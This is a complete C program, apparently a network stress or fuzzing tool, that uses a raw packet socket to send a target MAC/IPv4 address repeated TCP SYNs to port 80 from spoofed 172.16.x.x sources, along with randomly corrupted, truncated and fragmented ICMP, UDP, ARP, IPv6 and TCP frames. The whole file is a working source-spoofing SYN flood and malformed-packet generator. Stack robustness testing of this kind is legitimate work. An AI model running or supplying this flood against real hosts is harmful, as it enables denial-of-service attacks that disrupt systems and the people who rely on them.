// flood INTERFACE MAC IPV4 COUNT: sends what nobody wants to the machine with these addresses, by a packet(7) socket: COUNT
// SYNs to its port 80, each from somewhere else, and COUNT frames of other kinds with bytes changed, added and cut off.
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { ethernet = 14, ip = 20 };

static unsigned char head[ethernet], mac[6], from[4] = {172, 16, 0, 77}, to[4];
static int s;

static uint32_t rnd(void) { // xorshift
	static uint32_t x = 2463534242;
	x ^= x << 13, x ^= x >> 17;
	return x ^= x << 5;
}

static void put(unsigned char *p, unsigned v) { p[0] = v >> 8, p[1] = v; }

static unsigned sum(const unsigned char *p, int n, unsigned s) {
	for (int i = 0; i < n; i++) s += i & 1 ? p[i] : p[i] << 8;
	while (s >> 16) s = (s & 0xffff) + (s >> 16);
	return s;
}

// internet makes a frame of an IPv4 packet with a payload, and returns its size.
static int internet(unsigned char *f, int protocol, unsigned fragment, int size) {
	unsigned char *p = f + ethernet;
	memcpy(f, head, ethernet);
	memcpy(p, (unsigned char[]){0x45, 0, 0, 0, 0, 9, 0, 0, 64, protocol}, 10);
	put(p + 2, ip + size), put(p + 6, fragment), put(p + 10, 0);
	memcpy(p + 12, from, 4), memcpy(p + 16, to, 4);
	put(p + 10, ~sum(p, ip, 0));
	return ethernet + ip + size;
}

// tcp makes one of a segment to port 80.
static int tcp(unsigned char *f, int flags, int size) {
	unsigned char *p = f + ethernet + ip;
	put(p, rnd()), put(p + 2, 80), put(p + 4, rnd()), put(p + 6, rnd());
	put(p + 8, rnd()), put(p + 10, 0), p[12] = 5 << 4, p[13] = flags;
	put(p + 14, 65535), put(p + 16, 0), put(p + 18, 0);
	memset(p + 20, 'x', size);
	int all = internet(f, IPPROTO_TCP, 0, 20 + size);
	put(p + 16, ~sum(p, 20 + size, sum(f + ethernet + 12, 8, IPPROTO_TCP + 20 + size)));
	return all;
}

static int other(unsigned char *f) {
	unsigned char *p = f + ethernet + ip;
	static const unsigned char answer[] = {0, 1, 8, 0, 6, 4, 0, 2};
	int kind = rnd() % 8, n;
	memset(p, rnd(), 1000);
	switch (kind) {
	case 0: // an echo request
		p[0] = 8, p[1] = 0, put(p + 2, 0);
		put(p + 2, ~sum(p, 64, 0));
		return internet(f, IPPROTO_ICMP, 0, 64);
	case 1: // a datagram that nobody expects, without a checksum
		put(p + 2, 1 + rnd() % 100), put(p + 4, 208), put(p + 6, 0);
		return internet(f, IPPROTO_UDP, 0, 208);
	case 2: // a part of a packet, never all
		return internet(f, IPPROTO_UDP, (rnd() & 1 ? 0x2000 : 0) | rnd() % 100, 800);
	case 3: // who has what address
		n = internet(f, 0, 0, 28);
		put(f + 12, ETH_P_ARP);
		memcpy(f + ethernet, answer, 8);
		f[ethernet + 7] = 1 + (rnd() & 1);
		memcpy(f + ethernet + 8, head + 6, 6);
		memcpy(f + ethernet + 14, from, 4), put(f + ethernet + 16, rnd());
		memcpy(f + ethernet + 24, to, 4);
		return n;
	case 4: // IPv6, whatever
		n = internet(f, 0, 0, 100);
		put(f + 12, ETH_P_IPV6);
		memset(f + ethernet, 0, 40);
		f[ethernet] = 0x60, put(f + ethernet + 4, n - ethernet - 40), f[ethernet + 6] = (unsigned char[]){58, 0, 43, 44, 60, 6}[rnd() % 6];
		f[ethernet + 7] = 255, f[ethernet + 8] = 0xfe, f[ethernet + 9] = 0x80, f[ethernet + 23] = 2;
		f[ethernet + 24] = 0xff, f[ethernet + 25] = 2, f[ethernet + 39] = 1;
		return n;
	}
	return tcp(f, rnd(), rnd() % 1000);
}

static void out(const unsigned char *f, int n) {
	while (send(s, f, n, 0) < 0 && (errno == ENOBUFS || errno == EAGAIN)) usleep(1000); // others are too large or too short
}

int main(int argc, char **argv) {
	struct sockaddr_ll l = {AF_PACKET, htons(ETH_P_ALL), argc == 5 ? if_nametoindex(argv[1]) : 0};
	s = socket(AF_PACKET, SOCK_RAW, 0); // and receives nothing
	if (!l.sll_ifindex || s < 0 || bind(s, (void *)&l, sizeof l) || inet_pton(AF_INET, argv[3], to) != 1 ||
	    sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) {
		perror("flood");
		return 1;
	}
	memcpy(head, mac, 6), memcpy(head + 6, "\2\0\0\0\0\7", 6), put(head + 12, ETH_P_IP);
	for (int i = atoi(argv[4]); i > 0; i--) {
		unsigned char f[2048] = {0};
		from[2] = rnd(), from[3] = rnd();
		out(f, tcp(f, 2, 0));
		int n = other(f), fixed = rnd() & 1;
		for (int k = rnd() % 4; k > 0; k--) f[12 + rnd() % (n - 12)] = (unsigned char[]){0, 1, 0x7f, 0xff, rnd()}[rnd() % 5];
		if (rnd() % 6 == 0) n = rnd() % (n + 1);
		if (fixed && n >= ethernet + ip) put(f + ethernet + 10, 0), put(f + ethernet + 10, ~sum(f + ethernet, ip, 0));
		out(f, n);
		if (i % 8 == 0) usleep(5000); // what the device has no room for is not sent
	}
	puts("sent");
}
